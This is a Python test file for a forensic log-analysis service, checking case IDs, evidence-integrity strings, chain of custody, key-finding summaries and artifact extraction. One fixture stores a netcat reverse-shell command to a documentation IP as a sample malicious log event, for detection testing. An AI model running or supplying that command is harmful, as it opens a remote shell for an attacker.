"""Tests for BasicForensicService."""

# pylint: disable=missing-function-docstring

import re

from logsift.core.models import FileMetadata, SecurityEvent, TechnicalFindings
from logsift.core.utils import hash_string
from logsift.incident.forensics import BasicForensicService

EVIDENCE_HASH = "a" * 64


def _findings(events=(), iocs=(), evidence_hash=EVIDENCE_HASH):
    return TechnicalFindings(
        security_events=list(events),
        detected_iocs=list(iocs),
        metadata=FileMetadata(file_name="auth.log", hash=evidence_hash),
        file_format="SYSLOG",
    )


class TestForensicAnalysis:
    """Case summaries."""

    def test_case_id_from_hash(self):
        analysis = BasicForensicService().perform_forensic_analysis(_findings())
        assert re.fullmatch(r"CASE-\d{8}-[0-9a-f]{8}", analysis.case_id)
        assert analysis.case_id.endswith(hash_string(EVIDENCE_HASH)[:8])
        assert analysis.evidence_integrity == f"Verified (SHA256: {EVIDENCE_HASH})"

    def test_unhashed_evidence(self):
        analysis = BasicForensicService().perform_forensic_analysis(_findings(evidence_hash=""))
        assert analysis.evidence_integrity == "Unverified - no hash"
        assert analysis.case_id.endswith(hash_string("auth.log")[:8])

    def test_chain_of_custody(self):
        analysis = BasicForensicService(examiner="J. Analyst").perform_forensic_analysis(_findings())
        assert len(analysis.chain_of_custody) == 2
        assert "Evidence parsed as SYSLOG" in analysis.chain_of_custody[0]
        assert analysis.chain_of_custody[1].endswith("Forensic review by J. Analyst")

    def test_key_findings(self):
        events = [
            SecurityEvent(description="Webshell upload", severity="low", is_malicious=True),
            SecurityEvent(description="Audit log cleared", severity="critical"),
            SecurityEvent(description="Routine login", severity="low"),
        ]
        analysis = BasicForensicService().perform_forensic_analysis(
            _findings(events, ["203.0.113.5", "198.51.100.7", "evil.org"])
        )
        assert analysis.key_findings == [
            "Webshell upload",
            "Audit log cleared",
            "1 domain indicators",
            "2 ip indicators",
        ]
        assert analysis.artifact_count == 4
        assert analysis.recommended_actions[0] == "Preserve all digital evidence"

    def test_key_findings_are_capped(self):
        events = [SecurityEvent(description=f"alert {i}", severity="high") for i in range(15)]
        analysis = BasicForensicService().perform_forensic_analysis(_findings(events))
        assert len(analysis.key_findings) == 10


class TestDigitalArtifacts:
    """Artifact extraction."""

    def test_iocs_then_malicious_events(self):
        event = SecurityEvent(message="nc -e /bin/sh 203.0.113.5", source="bash", is_malicious=True,
                              properties={"pid": 4242})
        artifacts = BasicForensicService().extract_digital_artifacts(_findings([event], ["203.0.113.5"]))

        assert [a.type for a in artifacts] == ["IOC", "SecurityEvent"]
        assert artifacts[0].metadata == {"category": "ip"}
        assert artifacts[0].hash == hash_string("203.0.113.5")
        assert artifacts[1].value == "nc -e /bin/sh 203.0.113.5"
        assert artifacts[1].metadata == {"pid": 4242}
